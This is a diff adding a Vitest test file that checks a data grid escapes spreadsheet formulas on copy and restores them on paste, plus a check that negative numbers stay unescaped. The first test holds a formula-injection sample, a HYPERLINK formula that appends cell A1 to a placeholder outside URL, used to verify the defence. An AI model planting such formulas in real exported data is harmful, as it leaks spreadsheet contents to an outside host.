@@ -1,0 +1,51 @@
+import { cleanup } from '@testing-library/react'
+import { afterEach, beforeEach, expect, test, vi } from 'vitest'
+import { buildRowProduct, openGrid } from './open-grid.tsx'
+
+vi.mock('#lib/rpc/client/call.ts', () => import('#tests/components/fake-call.ts'))
+
+type Parts = Readonly<Record<string, Promise<Blob>>>
+
+class FakeItem {
+  readonly parts: Parts
+  constructor(parts: Parts) {
+    this.parts = parts
+  }
+}
+
+const clipboard = {
+  texts: new Map<string, string>(),
+  async write([item]: readonly FakeItem[]): Promise<void> {
+    for (const [type, blob] of Object.entries(item?.parts ?? {})) {
+      clipboard.texts.set(type, await (await blob).text())
+    }
+  },
+}
+
+beforeEach(() => {
+  vi.stubGlobal('ClipboardItem', FakeItem)
+  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true })
+})
+afterEach(() => {
+  cleanup()
+  Reflect.deleteProperty(navigator, 'clipboard')
+  vi.unstubAllGlobals()
+})
+
+const formula = '=HYPERLINK("https://elsewhere.example/"&A1)'
+
+test('what a spreadsheet would run is copied so that it does not, and pasted as it was', async () => {
+  const products = [buildRowProduct(0, { name: formula }), buildRowProduct(1)]
+  const grid = await openGrid(Promise.resolve(products), [{ name: formula }, {}])
+  await grid.copy(0, 0)
+  expect(clipboard.texts.get('text/plain')).toBe(`'${formula}`)
+  expect(clipboard.texts.get('text/html')).toContain(`<td>'=HYPERLINK(`)
+  await grid.paste(1, `'${formula}`)
+  expect(grid.typed()).toEqual([[products[1]?.id, { name: formula }]])
+})
+
+test('figures stay figures', async () => {
+  const grid = await openGrid(Promise.resolve([]), [{ quantity: -3 }, {}])
+  await grid.copy(0, 3)
+  expect(clipboard.texts.get('text/plain')).toBe('-3')
+})
